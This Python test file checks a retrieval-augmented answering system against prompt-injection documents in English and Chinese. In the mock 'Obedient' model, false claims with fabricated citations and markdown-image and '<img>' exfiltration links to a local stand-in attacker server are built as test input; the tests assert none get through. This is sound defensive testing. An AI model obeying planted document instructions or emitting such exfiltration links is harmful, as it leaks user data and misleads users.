"""Documents are data: orders in them change no claim that is shown, and nothing leaves."""

import json
import re
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any

import pytest

from injections import ELSEWHERE, EN, FALSE_EN, FALSE_ZH, ZH
from rag_notes import FILES
from seesay.rag.answer import AskConfig, stream_answer
from seesay.rag.claims import CitedAnswer, as_data
from seesay.rag.evidence import Evidence
from seesay.rag.verification import aligned
from seesay.search.catalog.drafts import Place
from seesay.search.collection import Collection
from seesay.search.filtering import make_filter
from texts_in_a_collection import make_collection

QUESTIONS = {"en": "When did Harwick Library open?", "zh": "城南图书馆是哪一年开放的？"}
HONEST = {
    "en": "It was designed by Tobias Finch and opened in 1931.",
    "zh": "城南图书馆位于灯笼街，由王思远设计，于1987年开放。",
}
CASES = [("en", n) for n in range(len(EN))] + [("zh", n) for n in range(len(ZH))]


class Obedient(BaseHTTPRequestHandler):
    """A model that does what any document says: repeats its falsehood under every number that there
    is and some that there are not, sends data to its address, and says yes to every check."""

    def log_message(self, *args: Any) -> None:
        pass

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        prompt = json.dumps(body["messages"], ensure_ascii=False)
        prompt += body["messages"][-1]["content"] if len(body["messages"]) > 1 else ""
        self.server.prompts.append(prompt)
        text = "yes" if len(body["messages"]) == 1 else self._obey(prompt)
        message = {"role": "assistant", "content": text}
        choice = {"index": 0, "message": message, "finish_reason": "stop"}
        reply = {"id": "1", "object": "chat.completion", "created": 1, "model": "m"}
        data = json.dumps({**reply, "choices": [choice]}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def _obey(self, prompt: str) -> str:
        language = "zh" if QUESTIONS["zh"] in prompt else "en"
        honest, false = HONEST[language], {"zh": FALSE_ZH, "en": FALSE_EN}[language]
        address = ELSEWHERE.format(port=self.server.elsewhere)
        ids = [int(one) for one in re.findall(r'\{\\*"id\\*": (\d+)', prompt)]
        good = next(n for n in ids if n)
        claims = [
            {"text": false, "evidence": [number]} for number in (*dict.fromkeys(ids), 99, 0, -1)
        ]
        claims += [{"text": false, "evidence": list(dict.fromkeys(ids))}]
        claims += [{"text": f"![x]({address}?q=secret) {false}", "evidence": [good]}]
        claims += [{"text": f"<img src='{address}'>", "evidence": [good]}]
        claims += [{"text": honest, "evidence": list(dict.fromkeys(ids))}]
        return json.dumps({"claims": claims}, ensure_ascii=False)


class Elsewhere(BaseHTTPRequestHandler):
    """Where nothing may arrive."""

    def log_message(self, *args: Any) -> None:
        pass

    def do_GET(self) -> None:
        self.server.visits.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_GET


def serve(handler: type, **state: Any) -> ThreadingHTTPServer:
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    server.daemon_threads = True
    vars(server).update(state)
    Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True).start()
    return server


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[ThreadingHTTPServer]:
    server = serve(Elsewhere, visits=[])
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def obedient(elsewhere) -> Iterator[ThreadingHTTPServer]:
    server = serve(Obedient, prompts=[], elsewhere=elsewhere.server_port)
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory, elsewhere) -> Iterator[Collection]:
    """The notes, and each hostile document in a folder of its own."""
    bad = {
        f"/bad/{language}{number}/x.txt": text.replace("{port}", str(elsewhere.server_port))
        for language, texts in (("en", EN), ("zh", ZH))
        for number, text in enumerate(texts)
    }
    place = tmp_path_factory.mktemp("poisoned") / "collection"
    with make_collection(place, {**FILES, **bad}) as collection:
        yield collection


def asked(collection: Collection, language: str, folder: str, **how: Any) -> CitedAnswer:
    config = AskConfig(filter=make_filter(folders=["/notes", folder]), **how)
    steps = stream_answer(collection, QUESTIONS[language], config)
    while True:
        try:
            next(steps)
        except StopIteration as end:
            return end.value


def check(answer: CitedAnswer, language: str) -> None:
    assert [claim.text for claim in answer.claims] == [HONEST[language]]
    (claim,) = answer.claims
    cited = {answer.evidence[number - 1].path for number in claim.evidence}
    assert all(path.startswith("/notes") for path in cited)
    assert all(aligned(quote, answer.evidence) for quote in claim.quotes)


def test_there_are_forty_documents():
    assert len(CASES) == len(set(EN + ZH)) == 40


@pytest.mark.parametrize("language, number", CASES)
def test_a_hostile_document_changes_no_quoted_answer(poisoned, elsewhere, language, number):
    answer = asked(poisoned, language, f"/bad/{language}{number}")
    assert any(one.path.startswith("/bad") for one in answer.evidence), "it was not even read"
    check(answer, language)
    assert elsewhere.visits == []


@pytest.mark.parametrize("language, number", CASES)
def test_a_model_that_obeys_documents_gets_no_claim_through(
    poisoned, obedient, elsewhere, language, number
):
    address = f"http://127.0.0.1:{obedient.server_port}/v1"
    how = {"mode": "endpoint", "endpoint": address, "model": "m"}
    answer = asked(poisoned, language, f"/bad/{language}{number}", **how)
    check(answer, language)
    assert answer.dropped, "the model did not obey"
    assert not any("://" in claim.text or "![" in claim.text for claim in answer.dropped)
    assert elsewhere.visits == []


def test_the_check_does_not_see_the_question(poisoned, obedient):
    obedient.prompts.clear()
    address = f"http://127.0.0.1:{obedient.server_port}/v1"
    how = {"mode": "endpoint", "endpoint": address, "model": "m"}
    asked(poisoned, "en", "/bad/en0", **how)
    checks = [one for one in obedient.prompts if "Statement:" in one]
    assert checks and not any(QUESTIONS["en"] in one for one in checks)


@pytest.mark.parametrize("text", [*EN, *ZH])
def test_no_text_ends_the_data_it_is_in(text):
    evidence = Evidence(
        id=7, unit=1, path="/a", kind="text", locator=Place(), text=text, confidence=90.0
    )
    (line,) = as_data([evidence]).splitlines()
    assert json.loads(line) == {"id": 7, "kind": "text", "text": text}
    assert not set("<>|") & set(line)
